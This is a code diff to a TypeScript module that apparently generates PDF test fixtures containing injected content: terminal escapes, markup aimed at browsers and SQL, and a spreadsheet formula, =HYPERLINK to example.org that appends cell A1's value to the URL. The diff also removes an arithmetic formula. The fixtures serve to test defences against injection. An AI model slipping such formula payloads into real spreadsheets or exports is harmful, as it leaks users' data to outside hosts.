@@ -23,7 +23,7 @@ function withMap(texts: readonly string[]): Buffer {
   const characters = [...new Set(texts.join(''))]
   const code = (character: string): string => (characters.indexOf(character) + 1).toString(16).padStart(4, '0')
   const hex = (character: string): string =>
-    [...character.normalize()].map((c) => (c.codePointAt(0) ?? 0).toString(16).padStart(4, '0')).join('')
+    [...character].map((c) => (c.codePointAt(0) ?? 0).toString(16).padStart(4, '0')).join('')
   const map = `/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CMapName /M def /CMapType 2 def
 1 begincodespacerange <0000> <ffff> endcodespacerange
 ${characters.length} beginbfchar
@@ -51,13 +51,9 @@ export const terminalEscapes = (): Buffer =>
     ),
   )
 
-/** The decision with a title and a reference that a spreadsheet would compute. */
+/** The decision with a title that a spreadsheet would compute. */
 export const formulas = (): Buffer =>
-  withMap(
-    DECISION.map((line) =>
-      line.replace('Lamps', '=HYPERLINK("https://example.org/?"&A1,"Lamps")').replace('041/2021', '=1+041/2021'),
-    ),
-  )
+  withMap(DECISION.map((line) => line.replace('Lamps', '=HYPERLINK("https://example.org/?"&A1,"Lamps")')))
 
 /** The decision with a title that a browser would run, and that SQL would, were it put together carelessly. */
 export const markup = (): Buffer =>
